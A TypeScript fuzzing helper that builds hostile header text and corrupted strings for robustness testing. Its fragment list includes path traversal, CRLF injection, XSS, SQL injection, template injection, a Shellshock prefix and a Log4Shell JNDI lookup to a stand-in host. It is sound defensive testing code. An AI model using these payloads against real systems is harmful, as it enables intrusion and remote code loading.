import type { Random } from './random.ts';

const fragments = [
  '',
  '0',
  '-1',
  '1e309',
  'null',
  'undefined',
  '[object Object]',
  '__proto__',
  'constructor',
  'toString',
  '../../etc/passwd',
  '..%2f..%2f',
  '%',
  '%0',
  '%zz',
  '%00',
  '%0d%0aX-Injected:%201',
  '%E5%98%8A%E5%98%8DX-Injected:1',
  '%c0%af',
  '%ff',
  '%ed%a0%80',
  '%u0041',
  '%2525',
  '\xc3\xa9',
  '\xe2\x80\xae',
  '\xef\xbb\xbf',
  '\xf0\x9f\x94\x91',
  '\xff\xfe',
  '\t',
  ' ',
  '  ',
  '+',
  '&',
  '=',
  ';',
  ',',
  '"',
  "'",
  '\\',
  '//evil.example',
  'https://evil.example/',
  'javascript:alert(1)',
  '<script>alert(1)</script>',
  "' OR 1=1 --",
  '$' + '{jndi:ldap://evil.example}',
  '{{7*7}}',
  '() { :;};',
  'x'.repeat(300),
  'x'.repeat(5000),
] as const;

/** Texts that have broken similar programs. Each character is a byte, and none ends a header. */
export function hostileText(random: Random): string {
  const parts = random.some(1, 4, () =>
    random.oneIn(3) ? anyBytes(random, 1 + random.below(12)) : random.pick(fragments),
  );
  return parts.join('').replaceAll(/[\0\r\n]/g, '');
}

/** Bytes of any value. Each becomes a character. */
export function anyBytes(random: Random, length: number): string {
  return random.bytes(length).toString('latin1');
}

/** The text with its parts removed, doubled, swapped, or their bits flipped. */
export function spoilt(random: Random, text: string): string {
  let result = text;
  for (let times = 1 + random.below(3); times > 0; times -= 1) {
    const from = random.below(result.length + 1);
    const to = Math.min(result.length, from + 1 + random.below(8));
    const before = result.slice(0, from);
    const part = result.slice(from, to);
    const after = result.slice(to);
    result = random.pick([
      () => before + after,
      () => before + part + part + after,
      () => before + anyBytes(random, 1 + random.below(3)) + after,
      () => before + anyBytes(random, 1) + part + after,
      () => after + part + before,
      () => before + flipped(random, part) + after,
      () => before + random.pick(fragments) + part + after,
    ])();
  }
  return result;
}

function flipped(random: Random, text: string): string {
  return Array.from(text, (one) => String.fromCharCode((one.charCodeAt(0) ^ (1 << random.below(8))) & 0xff)).join('');
}
